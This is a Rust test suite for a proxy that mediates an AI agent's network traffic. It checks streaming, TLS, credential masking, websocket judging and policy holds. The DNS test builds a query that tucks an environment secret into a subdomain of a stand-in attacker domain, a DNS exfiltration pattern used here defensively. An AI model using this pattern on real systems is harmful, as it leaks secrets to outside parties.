//! Streams, upgrades and long connections: what is passed on must be passed on at once, and
//! what is judged is judged piece by piece.
#![allow(
    clippy::unwrap_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "a helper that fails fails its test"
)]

mod common;

use std::io::{Read, Write};
use std::net::TcpStream;
use std::process::Command;
use std::sync::{Arc, Mutex, PoisonError};
use std::time::{Duration, Instant};

use common::{ENV_SECRET, Origin, World, path_rule, policy, private_server};
use kernel::Verdict;
use kernel::policy::HostPattern;
use net::{ConversationHook, Credential, UpstreamRule};

fn upstream(base: String) -> UpstreamRule {
    UpstreamRule {
        hosts: HostPattern("*".into()),
        ports: Vec::new(),
        base,
    }
}

#[test]
fn server_sent_events_are_not_buffered() {
    let origin = Origin::clear();
    let world = World::new(policy(), &origin);
    let mut stream = TcpStream::connect(world.direct("good.example", 80)).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(5)))
        .unwrap();
    stream
        .write_all(b"GET /sse HTTP/1.1\r\nHost: good.example\r\n\r\n")
        .unwrap();
    let start = Instant::now();
    let mut seen = String::new();
    let mut at = Vec::new();
    let mut piece = [0; 4096];
    while at.len() < 4 {
        let n = stream.read(&mut piece).unwrap();
        assert!(n > 0);
        seen.push_str(std::str::from_utf8(&piece[..n]).unwrap());
        while seen.matches("data: ").count() > at.len() {
            at.push(start.elapsed());
        }
    }
    assert!(at[0] < Duration::from_millis(200), "{at:?}");
    assert!(at[3] > Duration::from_millis(1000), "{at:?}");
}

#[test]
fn trailers_arrive_over_both_protocols() {
    let origin = Origin::clear();
    let world = World::new(policy(), &origin);
    let got = world.raw(
        world.direct("good.example", 80),
        b"GET /trailers HTTP/1.1\r\nHost: good.example\r\nTE: trailers\r\nConnection: TE\r\n\r\n",
    );
    assert!(got.contains("grpc-status: 0"), "{got}");
    let got = world.curl(&[
        "--http2-prior-knowledge",
        "-v",
        "http://good.example/trailers",
    ]);
    assert!(got.errors.contains("grpc-status: 0"), "{got:?}");
}

#[test]
fn keep_alive_pipelining_and_continue() {
    let origin = Origin::clear();
    let world = World::new(policy(), &origin);
    let to = world.direct("good.example", 80);
    let got = world.raw(
        to,
        b"GET /1 HTTP/1.1\r\nHost: good.example\r\n\r\nPOST /2 HTTP/1.1\r\nHost: good.example\r\nContent-Length: 3\r\n\r\nabcGET /3 HTTP/1.1\r\nHost: good.example\r\n\r\n",
    );
    assert_eq!(got.matches("HTTP/1.1 200 OK").count(), 3, "{got}");
    let uris: Vec<String> = origin.seen().iter().map(|s| s.uri.clone()).collect();
    assert_eq!(uris, ["/1", "/2", "/3"]);

    let mut stream = TcpStream::connect(to).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(5)))
        .unwrap();
    stream
        .write_all(b"POST /c HTTP/1.1\r\nHost: good.example\r\nExpect: 100-continue\r\nContent-Length: 2\r\n\r\n")
        .unwrap();
    let mut piece = [0; 256];
    let n = stream.read(&mut piece).unwrap();
    assert!(piece[..n].starts_with(b"HTTP/1.1 100 Continue"));
    stream.write_all(b"ok").unwrap();
    let n = stream.read(&mut piece).unwrap();
    assert!(
        piece[..n].starts_with(b"HTTP/1.1 200"),
        "{}",
        String::from_utf8_lossy(&piece[..n])
    );
}

#[test]
fn chunked_uploads_and_large_bodies_in_both_directions() {
    let origin = Origin::clear();
    let world = World::new(policy(), &origin);
    let path = world.dir.path().join("large");
    std::fs::write(&path, vec![b'y'; 5 << 20]).unwrap();
    let data = format!("@{}", path.display());
    for version in ["--http1.1", "--http2"] {
        let got = world.curl(&[
            version,
            "-H",
            "transfer-encoding: chunked",
            "-H",
            "content-type: application/octet-stream",
            "--data-binary",
            &data,
            "https://good.example/upload",
        ]);
        assert_eq!(
            (got.status, got.body.as_str()),
            (200, "you said 5242880 bytes"),
            "{version}"
        );
        let got = world.curl(&[version, "https://good.example/big"]);
        assert_eq!((got.status, got.body.len()), (200, 8 << 20), "{version}");
    }
}

#[test]
fn the_next_request_of_a_connection_is_judged_by_the_new_policy() {
    let origin = Origin::clear();
    let world = World::new(policy(), &origin);
    let mut stream = TcpStream::connect(world.direct("good.example", 80)).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(5)))
        .unwrap();
    let mut piece = [0; 4096];
    let mut post = || {
        stream
            .write_all(b"POST /x HTTP/1.1\r\nHost: good.example\r\nContent-Length: 0\r\n\r\n")
            .unwrap();
        let n = stream.read(&mut piece).unwrap();
        String::from_utf8_lossy(&piece[..12.min(n)]).into_owned()
    };
    assert_eq!(post(), "HTTP/1.1 200");
    let mut tighter = policy();
    tighter.parties.clear();
    world
        .session
        .replace_policy(Arc::new(tighter), Arc::new(kernel::policy::NoRules))
        .unwrap();
    assert_eq!(post(), "HTTP/1.1 202");
    assert_eq!(origin.seen().len(), 1);
}

#[test]
fn our_certificates_pass_strict_checks() {
    let origin = Origin::clear();
    let world = World::new(policy(), &origin);
    let script = r#"
import ssl, socket, sys
ca, port, alpn = sys.argv[1], int(sys.argv[2]), sys.argv[3]
context = ssl.create_default_context(cafile=ca)
context.verify_flags |= ssl.VERIFY_X509_STRICT | ssl.VERIFY_X509_PARTIAL_CHAIN
context.set_alpn_protocols([alpn])
s = context.wrap_socket(socket.create_connection(("127.0.0.1", port)), server_hostname="good.example")
print(s.selected_alpn_protocol(), s.version())
"#;
    for (alpn, expect) in [("h2", "h2 TLSv1.3"), ("http/1.1", "http/1.1 TLSv1.3")] {
        let output = Command::new("python3")
            .arg("-c")
            .arg(script)
            .arg(&world.ca)
            .arg(world.direct("good.example", 443).port().to_string())
            .arg(alpn)
            .output()
            .unwrap();
        assert_eq!(
            String::from_utf8_lossy(&output.stdout).trim(),
            expect,
            "{output:?}"
        );
    }
    // A ClientHello that comes in several segments.
    let got = world.curl(&["--tls-max", "1.2", "https://good.example/"]);
    assert_eq!(got.status, 200, "{got:?}");
}

#[test]
fn upstream_certificates_are_verified() {
    let (root, tls) = private_server(&["good.example"], true);
    let origin = Origin::secure(tls);
    let base = origin.https_base();
    let trusting = World::with(policy(), |config| {
        config.upstreams.push(upstream(base.clone()));
        config.roots_pem.push(root.clone().into_bytes());
    });
    assert_eq!(trusting.curl(&["https://good.example/"]).status, 200);
    assert_eq!(
        trusting.curl(&["--http2", "https://good.example/"]).status,
        200
    );
    let wary = World::with(policy(), |config| {
        config.upstreams.push(upstream(base.clone()))
    });
    let got = wary.curl(&["https://good.example/"]);
    assert_eq!(got.status, 502, "{got:?}");
    assert!(got.body.contains("does not trust"), "{got:?}");
    let (root, tls) = private_server(&["other.example"], true);
    let elsewhere = Origin::secure(tls);
    let world = World::with(policy(), |config| {
        config.upstreams.push(upstream(elsewhere.https_base()));
        config.roots_pem.push(root.into_bytes());
    });
    assert!(
        world
            .curl(&["https://good.example/"])
            .body
            .contains("another name")
    );
    let (root, tls) = private_server(&["good.example"], false);
    let expired = Origin::secure(tls);
    let world = World::with(policy(), |config| {
        config.upstreams.push(upstream(expired.https_base()));
        config.roots_pem.push(root.into_bytes());
    });
    assert!(
        world
            .curl(&["https://good.example/"])
            .body
            .contains("expired")
    );
    let world = World::with(policy(), |config| {
        config.upstreams.push(upstream("http://127.0.0.1:1".into()))
    });
    let got = world.curl(&["https://good.example/"]);
    assert!(
        got.status == 502 && got.body.contains("cannot be reached"),
        "{got:?}"
    );
}

fn credential(value: &str) -> Credential {
    Credential {
        placeholder: "KAIROS_PLACEHOLDER".into(),
        value: value.into(),
        hosts: vec![HostPattern("good.example".into())],
    }
}

#[test]
fn credentials_are_put_in_at_the_boundary() {
    let origin = Origin::clear();
    let world = World::with(policy(), |config| {
        config.upstreams.push(upstream(origin.http_base()));
        config.credentials.push(credential("the-real-one"));
    });
    world.curl(&[
        "-H",
        "Authorization: Bearer KAIROS_PLACEHOLDER",
        "-d",
        "KAIROS_PLACEHOLDER",
        "https://good.example/",
    ]);
    world.curl(&["-u", "me:KAIROS_PLACEHOLDER", "https://good.example/"]);
    world.curl(&[
        "-H",
        "Authorization: Bearer KAIROS_PLACEHOLDER",
        "-d",
        "x",
        "https://bad.example/",
    ]);
    world.decide(Verdict::Release);
    let seen = origin.seen();
    assert_eq!(seen[0].headers["authorization"], "Bearer the-real-one");
    assert_eq!(seen[0].body, b"KAIROS_PLACEHOLDER");
    assert_eq!(
        seen[1].headers["authorization"],
        "Basic bWU6dGhlLXJlYWwtb25l"
    );
    assert_eq!(
        seen[2].headers["authorization"],
        "Bearer KAIROS_PLACEHOLDER"
    );
    assert!(!world.log().contains("the-real-one"));
}

/// A server that sends back what it was given: the agent gets stars, and so does the log.
#[test]
fn a_credential_that_comes_back_is_stars() {
    let origin = Origin::clear();
    let world = World::with(policy(), |config| {
        config.upstreams.push(upstream(origin.http_base()));
        config.credentials.push(credential("the real/one"));
    });
    for version in ["--http1.1", "--http2"] {
        for given in [
            &["-H", "Authorization: Bearer KAIROS_PLACEHOLDER"][..],
            &["-u", "me:KAIROS_PLACEHOLDER"],
        ] {
            let got = world.curl(
                &[
                    &["-i", "--compressed", version],
                    given,
                    &["https://good.example/mirror?api_key=KAIROS_PLACEHOLDER"],
                ]
                .concat(),
            );
            assert_eq!(got.status, 200, "{got:?}");
            for real in [
                "the real/one",
                "the%20real%2Fone",
                "bWU6dGhlIHJlYWwvb25l",
                "gzip",
            ] {
                assert!(!got.body.contains(real), "{real}: {got:?}");
            }
            assert!(got.body.contains("api_key=****************"), "{got:?}");
            assert!(got.body.contains("x-mirror: B"), "{got:?}");
        }
    }
    let seen = origin.seen();
    assert_eq!(seen.len(), 4);
    assert!(seen.iter().all(|one| {
        one.uri.ends_with("api_key=the%20real%2Fone")
            && one.headers["accept-encoding"] == "identity"
    }));
    for real in ["the real/one", "the%20real%2Fone", "bWU6dGhlIHJlYWwvb25l"] {
        assert!(!world.log().contains(real));
    }
}

/// In the clear a credential does not travel, but where the policy says so.
#[test]
fn a_credential_does_not_travel_in_the_clear() {
    let world = World::with(policy(), |config| {
        config.credentials.push(credential("the-real-one"));
    });
    let got = world.curl(&["-u", "me:KAIROS_PLACEHOLDER", "http://good.example/"]);
    assert_eq!(got.status, 502, "{got:?}");
    assert!(
        got.body
            .contains("does not travel in the clear; use `https`"),
        "{got:?}"
    );
}

#[derive(Default)]
struct Amend {
    answers: Mutex<Vec<u8>>,
}

impl ConversationHook for Amend {
    fn request(&self, host: &str, path: &str, kind: &str, body: Vec<u8>) -> Vec<u8> {
        assert_eq!((host, path), ("model.example", "/v1/messages"));
        assert_eq!(kind, "application/json");
        [body, b" plus a notice".to_vec()].concat()
    }
    fn ws_message(&self, _: &str, _: &str, text: String) -> String {
        format!("{text} plus a notice")
    }
    fn answer(&self, _: &str, _: &str, bytes: &[u8]) {
        self.answers
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .extend_from_slice(bytes);
    }
}

#[test]
fn the_provider_is_released_and_amended_and_its_telemetry_is_not() {
    let origin = Origin::clear();
    let hook = Arc::new(Amend::default());
    let mut rules = policy();
    rules.parties[1].internal = vec![path_rule(&["GET", "POST"], "v1/**")];
    let given = Arc::clone(&hook);
    let world = World::with(rules, |config| {
        config.upstreams.push(upstream(origin.http_base()));
        config.conversation = given;
    });
    // Even with a secret in it: the model may see what the agent sees.
    let dir = world.dir.path();
    std::fs::write(dir.join("body"), format!("{{\"x\":\"{ENV_SECRET}\"}}")).unwrap();
    Command::new("gzip")
        .arg("-k")
        .arg(dir.join("body"))
        .status()
        .unwrap();
    for (coding, file) in [("identity", "body"), ("gzip", "body.gz")] {
        let got = world.curl(&[
            "-H",
            "content-type: application/json",
            "-H",
            &format!("content-encoding: {coding}"),
            "--data-binary",
            &format!("@{}", dir.join(file).display()),
            "https://model.example/v1/messages",
        ]);
        assert_eq!(got.status, 200, "{got:?}");
        let body = String::from_utf8(origin.seen().last().unwrap().body.clone()).unwrap();
        assert_eq!(body, format!("{{\"x\":\"{ENV_SECRET}\"}} plus a notice"));
        assert!(
            !origin
                .seen()
                .last()
                .unwrap()
                .headers
                .contains_key("content-encoding")
        );
    }
    assert!(hook.answers.lock().unwrap().starts_with(b"you said"));
    let mut strict = policy();
    strict.parties[1].paths = vec!["/v1".into()];
    world
        .session
        .replace_policy(Arc::new(strict), Arc::new(kernel::policy::NoRules))
        .unwrap();
    let before = origin.seen().len();
    let got = world.curl(&["-d", "{}", "https://model.example/api/event_logging"]);
    assert_eq!(got.status, 202, "{got:?}");
    assert_eq!(origin.seen().len(), before);
}

#[test]
fn a_provider_on_another_account_is_no_internal_channel() {
    let origin = Origin::clear();
    let world = World::with(policy(), |config| {
        config.upstreams.push(upstream(origin.http_base()));
        config.keys = vec!["sk-second-of-my-own".to_string()];
    });
    let ask = |header: &str| {
        let kind = ["-H", "content-type: application/json"];
        let body = ["--data-binary", "{}", "https://model.example/v1/files"];
        world.curl(&[&["-H", header][..], &kind, &body].concat())
    };
    let own = [
        "x-api-key: sk-my-own-key",
        "authorization: Bearer sk-second-of-my-own",
    ];
    for (at, header) in own.iter().enumerate() {
        assert_eq!(ask(header).status, 200);
        assert_eq!(origin.seen().len(), at + 1);
    }
    for other in [
        "x-api-key: sk-of-another",
        "authorization: Bearer sk-of-another",
    ] {
        ask(other);
        assert_eq!(origin.seen().len(), 2, "{other}");
    }
    let held = world.session.held();
    let why = format!("{:?}", held.first().map(|held| &held.question.reasons));
    assert!(
        why.contains("on an account that is not known to be yours"),
        "{why}"
    );
    assert_eq!(ask(own[0]).status, 200);
    assert_eq!(origin.seen().len(), 3);
}

#[test]
fn websocket_messages_are_judged_one_by_one() {
    let origin = Origin::clear();
    let world = World::new(policy(), &origin);
    let script = r#"
import base64, os, socket, ssl, struct, sys, zlib
ca, port, host = sys.argv[1], int(sys.argv[2]), sys.argv[3]
context = ssl.create_default_context(cafile=ca)
s = context.wrap_socket(socket.create_connection(("127.0.0.1", port)), server_hostname=host)
s.settimeout(10)
key = base64.b64encode(os.urandom(16)).decode()
s.sendall(f"GET /ws HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: keep-alive, Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Extensions: permessage-deflate\r\nSec-WebSocket-Key: {key}\r\n\r\n".encode())
data = b""
def need(n):
    global data
    while len(data) < n:
        more = s.recv(4096)
        if not more: raise EOFError
        data += more
while b"\r\n\r\n" not in data: need(len(data) + 1)
head, data = data.split(b"\r\n\r\n", 1)
print(head.split(b"\r\n")[0].decode(), b"extensions" in head.lower(), flush=True)
unpacker = zlib.decompressobj(wbits=-15)
def receive():
    global data
    need(2)
    first, op, n = data[0], data[0] & 15, data[1] & 127
    need(2 + n)
    payload = data[2:2 + n]
    data = data[2 + n:]
    if first & 0x40: payload = unpacker.decompress(payload + b"\0\0\xff\xff")
    return op, payload
packer = zlib.compressobj(wbits=-15)
def send(text):
    mask, first, raw = os.urandom(4), 0x81, text.encode()
    if text.startswith("packed"):
        first, raw = 0xc1, (packer.compress(raw) + packer.flush(zlib.Z_SYNC_FLUSH))[:-4]
    body = bytes(b ^ mask[i % 4] for i, b in enumerate(raw))
    s.sendall(bytes([first, 0x80 | len(body)]) + mask + body)
print(receive(), flush=True)
for text in sys.argv[4:]:
    send(text)
    op, payload = receive()
    print(op, payload, flush=True)
"#;
    let run = |host: &str, texts: &[&str]| {
        let output = Command::new("python3")
            .arg("-c")
            .arg(script)
            .arg(&world.ca)
            .arg(world.direct(host, 443).port().to_string())
            .arg(host)
            .args(texts)
            .output()
            .unwrap();
        String::from_utf8_lossy(&output.stdout).into_owned()
            + &String::from_utf8_lossy(&output.stderr)
    };
    // A named party: the handshake and what carries nothing are released; the frame that came
    // with the 101 arrives.
    let got = run("good.example", &["one", "packed two", "packed two two"]);
    assert_eq!(
        got,
        "HTTP/1.1 101 Switching Protocols True\n(1, b'hello')\n1 b'one'\n1 b'packed two'\n1 b'packed two two'\n"
    );
    // A message with the secret waits; refused, it closes the socket with 1008.
    std::thread::scope(|scope| {
        let secret = format!("packed {ENV_SECRET}");
        let client = scope.spawn(move || run("good.example", &["fine", &secret]));
        world.decide(Verdict::Refuse);
        let got = client.join().unwrap();
        assert!(got.contains("1 b'fine'"), "{got}");
        assert!(
            got.contains(r"8 b'\x03\xf0[Kairos] This did not happen"),
            "{got}"
        );
    });
    let messages: Vec<_> = origin
        .seen()
        .into_iter()
        .filter(|s| s.method == "MESSAGE")
        .map(|s| s.body)
        .collect();
    assert_eq!(
        messages,
        [
            b"one".to_vec(),
            b"packed two".to_vec(),
            b"packed two two".to_vec(),
            b"fine".to_vec()
        ]
    );
    // An unknown party: the handshake itself waits.
    std::thread::scope(|scope| {
        let client = scope.spawn(|| run("bad.example", &[]));
        world.decide(Verdict::Refuse);
        assert!(client.join().unwrap().starts_with("HTTP/1.1 403"));
    });
}

/// A server that compresses, and whose first frame comes in one segment with its answer.
#[test]
fn a_compressed_frame_in_one_segment_with_the_101_arrives() {
    use std::io::{Read, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    let server = std::thread::spawn(move || {
        let (mut stream, _) = listener.accept().unwrap();
        let mut seen = Vec::new();
        let mut piece = [0; 4096];
        while !seen.windows(4).any(|w| w == b"\r\n\r\n") {
            let n = stream.read(&mut piece).unwrap();
            seen.extend_from_slice(&piece[..n]);
        }
        let head = String::from_utf8(seen).unwrap().to_lowercase();
        assert!(
            head.contains("sec-websocket-extensions: permessage-deflate\r\n"),
            "{head}"
        );
        let key = head_value(&head, "sec-websocket-key");
        // The key is compared in the client's own letters there.
        assert!(!key.is_empty());
        let mut packed = Vec::with_capacity(100);
        flate2::Compress::new(flate2::Compression::best(), false)
            .compress_vec(
                b"hello hello hello",
                &mut packed,
                flate2::FlushCompress::Sync,
            )
            .unwrap();
        packed.truncate(packed.len() - 4);
        let mut answer =
            b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\
            Sec-WebSocket-Extensions: permessage-deflate; server_no_context_takeover\r\n\r\n"
                .to_vec();
        answer.extend([0xc1, u8::try_from(packed.len()).unwrap()]);
        answer.extend(packed);
        stream.write_all(&answer).unwrap();
        let n = stream.read(&mut piece).unwrap();
        assert_eq!(piece[0], 0x81, "it is passed on plain");
        piece[..n].to_vec()
    });
    let world = World::with(policy(), |config| config.upstreams.push(upstream(base)));
    let mut stream = std::net::TcpStream::connect(world.direct("good.example", 80)).unwrap();
    stream
        .write_all(
            b"GET /ws HTTP/1.1\r\nHost: good.example\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\
              Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\
              Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits\r\n\r\n",
        )
        .unwrap();
    let mut seen = Vec::new();
    let mut piece = [0; 4096];
    let text = loop {
        let n = stream.read(&mut piece).unwrap();
        assert!(n > 0, "{}", String::from_utf8_lossy(&seen));
        seen.extend_from_slice(&piece[..n]);
        let frame = seen
            .windows(4)
            .position(|w| w == b"\r\n\r\n")
            .map(|at| at + 4);
        if let Some(at) = frame
            && seen.len() >= at + 2
            && seen.len() >= at + 2 + usize::from(seen[at + 1])
        {
            assert_eq!(seen[at], 0xc1, "it is compressed anew");
            let mut text = Vec::with_capacity(100);
            let packed = [&seen[at + 2..], &[0, 0, 0xff, 0xff]].concat();
            flate2::Decompress::new(false)
                .decompress_vec(&packed, &mut text, flate2::FlushDecompress::Sync)
                .unwrap();
            break text;
        }
    };
    assert_eq!(text, b"hello hello hello");
    stream
        .write_all(&[0x81, 0x82, 0, 0, 0, 0, b'o', b'k'])
        .unwrap();
    let got = server.join().unwrap();
    assert_eq!(got.len(), 8, "{got:?}");
}

fn head_value(head: &str, name: &str) -> String {
    head.lines()
        .find_map(|line| line.strip_prefix(&format!("{name}: ")))
        .unwrap_or_default()
        .to_string()
}

#[test]
fn what_is_not_http_is_judged_by_where_it_leads() {
    let origin = Origin::clear();
    let echo = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let address = echo.local_addr().unwrap();
    std::thread::spawn(move || {
        for stream in echo.incoming() {
            let mut stream = stream.unwrap();
            std::thread::spawn(move || {
                let mut piece = [0; 64];
                let n = stream.read(&mut piece).unwrap();
                stream.write_all(&[b"echo ", &piece[..n]].concat()).unwrap();
            });
        }
    });
    let world = World::with(policy(), |config| {
        config.upstreams.push(UpstreamRule {
            hosts: HostPattern("ssh.example".into()),
            ports: Vec::new(),
            base: format!("http://{address}"),
        });
        config.upstreams.push(upstream(origin.http_base()));
    });
    assert_eq!(
        world.raw(world.direct("ssh.example", 22), b"hello\r\n"),
        "echo hello\r\n"
    );
    // Named, but not for what cannot be looked into: it has to be decided.
    for host in ["good.example", "bad.example"] {
        std::thread::scope(|scope| {
            let client = scope.spawn(|| world.raw(world.direct(host, 22), b"hello\r\n"));
            world.decide(Verdict::Refuse);
            assert_eq!(client.join().unwrap(), "");
        });
    }
    // SSH only where the policy says which host key is the right one; its client is told so.
    for host in ["good.example", "bad.example", "ssh.example"] {
        let got = world.raw(world.direct(host, 22), b"SSH-2.0-x\r\n");
        assert!(
            got.starts_with("SSH-2.0-Kairos\r\n") && got.contains("`host_keys`"),
            "{got}"
        );
        assert!(world.session.held().is_empty());
    }
    assert!(origin.seen().is_empty());
}

#[test]
fn look_ups_are_answered_here() {
    let origin = Origin::clear();
    let world = World::new(policy(), &origin);
    let script = r#"
import socket, struct, sys
def query(name, kind):
    q = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0)
    for label in name.split("."): q += bytes([len(label)]) + label.encode()
    return q + b"\0" + struct.pack(">HH", kind, 1)
def show(reply):
    print(reply[3] & 15, struct.unpack(">H", reply[6:8])[0], reply[-4:].hex() if reply[7] else "")
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(5)
for name, kind in (("good.example", 1), ("good.example", 65), ("x.invalid", 1), (sys.argv[3] + ".attacker.test", 16)):
    u.sendto(query(name, kind), ("127.0.0.1", int(sys.argv[1])))
    show(u.recv(4096))
t = socket.create_connection(("127.0.0.1", int(sys.argv[2])))
m = query("good.example", 1)
t.sendall(struct.pack(">H", len(m)) + m)
t.recv(2)
show(t.recv(4096))
"#;
    let output = Command::new("python3")
        .arg("-c")
        .arg(script)
        .arg(world.direct("dns", 0).port().to_string())
        .arg(world.direct("dns", 53).port().to_string())
        .arg(ENV_SECRET)
        .output()
        .unwrap();
    let got = String::from_utf8_lossy(&output.stdout).into_owned();
    assert_eq!(
        got, "0 1 c6120001\n0 0 \n3 0 \n0 0 \n0 1 c6120001\n",
        "{output:?}"
    );
}

#[test]
fn content_that_reached_the_agent_is_told() {
    let origin = Origin::clear();
    let world = World::new(policy(), &origin);
    world.curl(&["https://good.example/redirect"]);
    let digest = kernel::Digest::of(b"/elsewhere\nmoved").hex();
    assert!(world.log().contains(&digest), "{}", world.log());
}

#[test]
fn waiting_requests_expire_with_a_reason() {
    let origin = Origin::clear();
    let world = World::with(policy(), |config| {
        config.upstreams.push(upstream(origin.http_base()));
        config.blocking_deadline = Duration::from_millis(300);
        config.pending_notices = Arc::new(|| vec!["[Kairos] One more thing.".into()]);
    });
    let got = world.curl(&["https://bad.example/page"]);
    assert_eq!(got.status, 403, "{got:?}");
    assert!(got.body.contains("nobody was there"), "{got:?}");
    assert!(got.body.contains("One more thing."), "{got:?}");
    assert!(origin.seen().is_empty());
}

#[test]
fn a_pinned_program_passes_where_the_policy_names_that_alone() {
    let (root, tls) = private_server(&["ssh.example", "good.example"], true);
    let origin = Origin::secure(tls);
    let world = World::with(policy(), |config| {
        let base = format!("http://{}", origin.address);
        config.upstreams.push(UpstreamRule {
            hosts: HostPattern("ssh.example".into()),
            ports: Vec::new(),
            base,
        });
    });
    let pin = world.dir.path().join("pin.pem");
    std::fs::write(&pin, root).unwrap();
    let pin = pin.display().to_string();
    let got = world.curl(&["--cacert", &pin, "https://ssh.example/pinned"]);
    assert_eq!(got.status, 200, "{got:?}");
    assert_eq!(origin.seen()[0].uri, "/pinned");
    // It is in the log, by its destination.
    assert!(world.log().contains(r#""operation":"connect""#));
    // Every other party's TLS ends here.
    let got = world.curl(&["--cacert", &pin, "https://good.example/pinned"]);
    assert_eq!(got.status, 0, "{got:?}");
}

#[test]
fn a_websocket_carries_large_messages_pings_and_closes() {
    use futures_util::{SinkExt, StreamExt};
    use tokio_tungstenite::tungstenite::Message;
    use tokio_tungstenite::tungstenite::protocol::CloseFrame;
    use tokio_tungstenite::tungstenite::protocol::frame::coding::CloseCode;

    let origin = Origin::clear();
    let world = World::new(policy(), &origin);
    let to = world.direct("good.example", 80);
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    runtime.block_on(async {
        let stream = tokio::net::TcpStream::connect(to).await.unwrap();
        let (mut socket, _) = tokio_tungstenite::client_async("ws://good.example/ws", stream)
            .await
            .unwrap();
        assert_eq!(
            socket.next().await.unwrap().unwrap(),
            Message::text("hello")
        );
        for message in [
            Message::text("ü".repeat(700_000)),
            Message::binary(vec![0xff; 1 << 20]),
            Message::text(""),
        ] {
            socket.send(message.clone()).await.unwrap();
            assert!(socket.next().await.unwrap().unwrap() == message);
        }
        socket
            .send(Message::Ping(b"?".to_vec().into()))
            .await
            .unwrap();
        assert_eq!(
            socket.next().await.unwrap().unwrap(),
            Message::Pong(b"?".to_vec().into())
        );
        let bye = CloseFrame {
            code: CloseCode::Normal,
            reason: "bye".into(),
        };
        socket
            .send(Message::Close(Some(bye.clone())))
            .await
            .unwrap();
        let answer = tokio::time::timeout(Duration::from_secs(3), socket.next())
            .await
            .unwrap();
        assert_eq!(answer.unwrap().unwrap(), Message::Close(Some(bye)));
        assert!(matches!(
            tokio::time::timeout(Duration::from_secs(3), socket.next())
                .await
                .unwrap(),
            None | Some(Err(_))
        ));
    });
}

/// A server that takes a request whole and says nothing.
fn silent() -> (String, std::sync::mpsc::Receiver<String>) {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    let (tell, told) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        while let Ok((mut stream, _)) = listener.accept() {
            let mut all = Vec::new();
            let mut piece = [0; 4096];
            while !all.ends_with(b"amount=1") && !all.starts_with(b"GET ") {
                match stream.read(&mut piece) {
                    Ok(n) if n > 0 => all.extend_from_slice(&piece[..n]),
                    _ => break,
                }
            }
            if tell
                .send(String::from_utf8_lossy(&all).into_owned())
                .is_err()
            {
                return;
            }
        }
    });
    (base, told)
}

#[test]
fn whether_a_request_without_an_answer_took_effect_is_not_known() {
    let (base, arrived) = silent();
    let world = World::with(policy(), |config| config.upstreams.push(upstream(base)));
    let wait = || arrived.recv_timeout(Duration::from_secs(60)).unwrap();
    let unknown = || world.log().matches(store::record::UNKNOWN).count();

    let got = world.curl(&["-d", "amount=1", "http://good.example/pay"]);
    assert_eq!(got.status, 502, "{got:?}");
    assert!(got.body.contains("it was sent"), "{got:?}");
    assert!(got.body.contains("do not simply send it again"), "{got:?}");
    assert!(!got.body.contains("failed"), "{got:?}");
    assert!(wait().starts_with("POST /pay "));
    assert!(common::until(|| unknown() == 1), "{}", world.log());

    // So too when it was held.
    world.curl(&["-d", "amount=1", "http://bad.example/pay"]);
    world.decide(kernel::Verdict::Release);
    assert!(wait().starts_with("POST /pay "));
    assert!(common::until(|| unknown() == 2), "{}", world.log());

    // What changes nothing has just failed.
    let got = world.curl(&["http://good.example/a"]);
    assert!(got.body.contains("allowed but failed"), "{got:?}");
    assert!(wait().starts_with("GET /a "));
    assert!(arrived.try_recv().is_err(), "nothing is sent twice");

    // And so has what nobody was there for.
    let gone = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let base = format!("http://{}", gone.local_addr().unwrap());
    drop(gone);
    let world = World::with(policy(), |config| config.upstreams.push(upstream(base)));
    let got = world.curl(&["-d", "amount=1", "http://good.example/pay"]);
    assert!(got.body.contains("allowed but failed"), "{got:?}");
    assert!(
        common::until(|| world.log().contains("cannot be reached")),
        "{}",
        world.log()
    );
    assert!(!world.log().contains(store::record::UNKNOWN));
}
